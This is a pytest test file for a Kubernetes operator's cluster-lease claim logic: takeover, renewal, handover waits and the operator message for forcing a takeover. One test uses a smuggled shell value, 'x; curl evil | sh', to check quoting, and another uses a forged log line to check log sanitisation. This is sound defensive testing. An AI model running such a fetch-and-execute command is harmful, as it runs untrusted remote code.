"""Two managers of one identity never both write to a worker cluster; two leaders of one manager hand it over without a pause."""

from datetime import UTC, datetime
from typing import Any

import pytest

from adapter import names
from adapter.admission import cluster_claim
from adapter.admission.cluster_claim import (
    ABANDONED_SECONDS,
    DEADLINE_SECONDS,
    HANDED_OVER_SECONDS,
    Claimant,
    ClaimConflict,
    ClaimWrite,
    Leadership,
)
from adapter.objects.unstructured import RawDict as Raw
from adapter.shell.kube.client import TIMEOUT_SECONDS

WALL = datetime(2026, 5, 1, 12, 0, 0, 250, tzinfo=UTC)
STAMP, EARLIER = "2026-05-01T12:00:00.000250Z", "2026-04-01T00:00:00.000000Z"
ME, BEFORE, OTHER = "rayspan-b_2", "rayspan-a_1", "rayspan-a_9"
WHICH = ("0123456789", "east")
NOW = 1000.0
LEAD = Leadership(ME, BEFORE, 500, 510)


def held(holder: str | None, noted: object = "400", **spec: Any) -> Raw:
    """A claim as it stands."""
    metadata = {
        "name": "rayspan-0123456789-east",
        "uid": "u1",
        "resourceVersion": "7",
        "annotations": {names.LEASE_VERSION_ANNOTATION: noted},
    }
    usual = {"leaseDurationSeconds": 60, "leaseTransitions": 3, "acquireTime": EARLIER, "renewTime": EARLIER}
    return {"metadata": metadata, "spec": {**usual, "holderIdentity": holder, **spec}}


def seen(seconds: float) -> Claimant:
    """One who has not seen the claim change for so long."""
    return Claimant("7", NOW - seconds)


def move(
    found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD, taken_from: str = ""
) -> ClaimWrite | ClaimConflict:
    return cluster_claim.decide(me or seen(0), lead, WHICH, found, taken_from, NOW, WALL)


@pytest.mark.parametrize(
    ("found", "me", "after"),
    [
        pytest.param(None, Claimant(), 0, id="there never was one"),
        pytest.param(
            None, Claimant("", NOW, may_write_until=NOW + 1), 0, id="it is deleted while this process holds it"
        ),
        pytest.param(None, Claimant("", NOW - ABANDONED_SECONDS), 0, id="it was deleted, and nobody wanted it"),
        pytest.param(held(""), seen(0), 0, id="nobody holds it"),
        pytest.param(held(None), seen(0), 0, id="nobody ever did"),
        pytest.param({"metadata": {"uid": "u1", "resourceVersion": "7"}}, seen(0), 0, id="it says nothing"),
        pytest.param(held(ME), seen(0), 0, id="this process"),
        pytest.param(held(BEFORE, "500"), seen(0), 0, id="who led before, as far as is known of it"),
        pytest.param(held(BEFORE, "3"), seen(0), 0, id="who led before, cut off from there for long"),
        pytest.param(held(OTHER), seen(ABANDONED_SECONDS), 0, id="another one, which renews it no more"),
        pytest.param(held(BEFORE, "501"), seen(ABANDONED_SECONDS), 0, id="nor does one that lived on elsewhere"),
    ],
)
def test_it_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -> None:
    made = move(found, me)
    assert isinstance(made, ClaimWrite) and made.create is (found is None) and made.effective_after == after
    assert made.body["spec"]["holderIdentity"] == ME
    assert made.body["metadata"]["annotations"] == {names.LEASE_VERSION_ANNOTATION: "510"}
    if found is not None:
        assert {key: made.body["metadata"][key] for key in ("uid", "resourceVersion")} == {
            "uid": "u1",
            "resourceVersion": "7",
        }


@pytest.mark.parametrize(
    ("found", "lead"),
    [
        pytest.param(held(OTHER), LEAD, id="another one"),
        pytest.param(held(BEFORE, "501"), LEAD, id="who led before the backup, and lived on elsewhere"),
        pytest.param(held(OTHER, "400"), LEAD, id="who led before that, in whatever history"),
        pytest.param(held(BEFORE, ""), LEAD, id="nobody knows how far it was"),
        pytest.param(held(BEFORE, "-1"), LEAD, id="nonsense"),
        pytest.param(held(BEFORE, 5), LEAD, id="a number where a text should be"),
        pytest.param(held(OTHER), Leadership(ME), id="nobody led before"),
        pytest.param(held("", "400") | {"spec": {"holderIdentity": OTHER}}, LEAD, id="it says little"),
    ],
)
def test_another_ones_is_respected(found: Raw, lead: Leadership) -> None:
    assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), ClaimConflict)


def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
    made = move(None, Claimant("", NOW - ABANDONED_SECONDS + 0.5))
    assert isinstance(made, ClaimConflict) and made.message == (
        "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, which whoever held it may not know "
        "yet; nothing is written there until nobody has made it anew for 60 s"
    )


def test_whom_it_is_taken_from_has_time_to_learn_of_it() -> None:
    made = move(held(OTHER), taken_from=OTHER)
    assert isinstance(made, ClaimWrite) and made.effective_after == HANDED_OVER_SECONDS
    assert isinstance(move(held(OTHER), taken_from=BEFORE), ClaimConflict), "that very holder, so it works once"
    me = cluster_claim.with_grant(
        cluster_claim.with_request(seen(0), made, NOW), NOW + HANDED_OVER_SECONDS - 10
    )  # renewed since
    times = (NOW, NOW + HANDED_OVER_SECONDS - 0.1, NOW + HANDED_OVER_SECONDS)
    assert [cluster_claim.may_write(me, when) for when in times] == [False, False, True]
    renewed = move(held(ME), me)
    assert isinstance(renewed, ClaimWrite)
    assert not cluster_claim.may_write(
        cluster_claim.with_grant(cluster_claim.with_request(me, renewed, NOW + 10), NOW + 10), NOW + 10
    ), "a renewal does not shorten it"


def test_whom_it_is_taken_from_may_write_until_its_deadline_and_what_it_sent_last_is_over_then() -> None:
    """Its renewals may fail although its writes do not."""
    assert HANDED_OVER_SECONDS >= DEADLINE_SECONDS + TIMEOUT_SECONDS
    assert HANDED_OVER_SECONDS <= ABANDONED_SECONDS, "who waits for longer takes it without being told to"


def noted(made: ClaimWrite | ClaimConflict) -> object:
    assert isinstance(made, ClaimWrite)
    return made.body["metadata"]["annotations"].get(names.TAKEN_OVER_ANNOTATION, "-")


def as_left(holder: str) -> Raw:
    """A claim that was taken over, and whose taker ended before its wait was over."""
    found = held(holder)
    found["metadata"]["annotations"][names.TAKEN_OVER_ANNOTATION] = "true"
    return found


def test_a_claim_says_that_it_was_taken_over_until_the_wait_is_over() -> None:
    assert noted(move(held(OTHER), taken_from=OTHER)) == "true"
    waiting, over = Claimant("7", NOW, may_write_from=NOW + 1), Claimant("7", NOW, may_write_from=NOW)
    assert noted(move(as_left(ME), waiting)) == "true"
    assert noted(move(as_left(ME), over)) is None
    assert noted(move(held(ME), over)) == "-"


@pytest.mark.parametrize(
    ("holder", "since", "after", "said"),
    [
        pytest.param(BEFORE, 0, HANDED_OVER_SECONDS, "true", id="its successor waits as well"),
        pytest.param("", 0, HANDED_OVER_SECONDS, "true", id="nobody holds it any more"),
        pytest.param(OTHER, ABANDONED_SECONDS, 0, None, id="for longer than that nobody renewed it"),
        pytest.param(ME, 0, 0, None, id="it waited itself"),
    ],
)
def test_who_comes_after_a_taker_waits_for_whom_it_was_taken_from(
    holder: str, since: float, after: float, said: object
) -> None:
    made = move(as_left(holder), seen(since))
    assert isinstance(made, ClaimWrite) and made.effective_after == after and noted(made) == said


def test_whoever_may_put_it_right_reads_how() -> None:
    found = move(held(OTHER))
    assert isinstance(found, ClaimConflict) and found.message == (
        "it is held by rayspan-a_9 since 2026-04-01T00:00:00.000000Z, which may be of a clone of this manager, or of the manager that "
        "this one is a clone of (Lease rayspan-0123456789-east in its namespace rayspan-system); nothing is written there. It is taken "
        "over when it was not renewed for 60 s; or, if that one is to stop, say so: kubectl annotate workercluster east --overwrite "
        "rayspan.dev/take-over=rayspan-a_9"
    )


def test_a_write_is_allowed_until_the_deadline() -> None:
    me = cluster_claim.with_grant(seen(0), NOW)
    assert [cluster_claim.may_write(me, NOW + later) for later in (0, DEADLINE_SECONDS - 0.1, DEADLINE_SECONDS)] == [
        True,
        True,
        False,
    ]
    assert not cluster_claim.may_write(cluster_claim.without_claim(me), NOW) and not cluster_claim.may_write(
        Claimant(), NOW
    )
    assert DEADLINE_SECONDS * 1.5 <= ABANDONED_SECONDS, "one clock may run faster than another"


def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
    first = cluster_claim.with_observation(Claimant(), held(OTHER), NOW)
    assert (first.observed_version, first.unchanged_since) == ("7", NOW)
    assert cluster_claim.with_observation(first, held(OTHER), NOW + 50) == first
    renewed = held(OTHER)
    renewed["metadata"]["resourceVersion"] = "8"
    assert cluster_claim.with_observation(first, renewed, NOW + 50).unchanged_since == NOW + 50


@pytest.mark.parametrize(
    ("found", "acquired", "transitions"),
    [
        pytest.param(None, STAMP, 0, id="the first one"),
        pytest.param(held(ME), EARLIER, 3, id="a renewal"),
        pytest.param(held(BEFORE), STAMP, 4, id="a change"),
        pytest.param(held("", leaseTransitions="x"), STAMP, 1, id="nonsense"),
        pytest.param(held("", leaseTransitions=2**31 - 1), STAMP, 0, id="the API takes no more"),
    ],
)
def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
    made = move(found, seen(0) if found else Claimant())
    assert isinstance(made, ClaimWrite)
    spec = made.body["spec"]
    assert (spec["acquireTime"], spec["leaseTransitions"], spec["renewTime"]) == (acquired, transitions, STAMP)
    if found is None:
        assert (made.body["kind"], made.body["metadata"]["name"]) == ("Lease", "rayspan-0123456789-east")
        assert made.body["metadata"]["namespace"] == names.SYSTEM_NAMESPACE


def test_what_is_to_be_typed_holds_no_command_of_who_wrote_the_lease() -> None:
    found = move(held("x; curl evil | sh"))
    assert isinstance(found, ClaimConflict) and found.message.endswith(" rayspan.dev/take-over='x; curl evil | sh'")


def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
    found = move(held("x\nERROR all is lost" + "x" * 5000))
    assert (
        isinstance(found, ClaimConflict)
        and found.holder.isprintable()
        and "\n" not in found.message
        and len(found.holder) < 1100
    )


def test_who_gives_it_back_names_nobody_and_leaves_its_notes_as_they_are() -> None:
    """As that it was taken from somebody who may write yet."""
    assert cluster_claim.release_patch(held(ME), WALL) == {
        "metadata": {"uid": "u1", "resourceVersion": "7"},
        "spec": {"holderIdentity": "", "leaseDurationSeconds": 1, "acquireTime": STAMP, "renewTime": STAMP},
    }
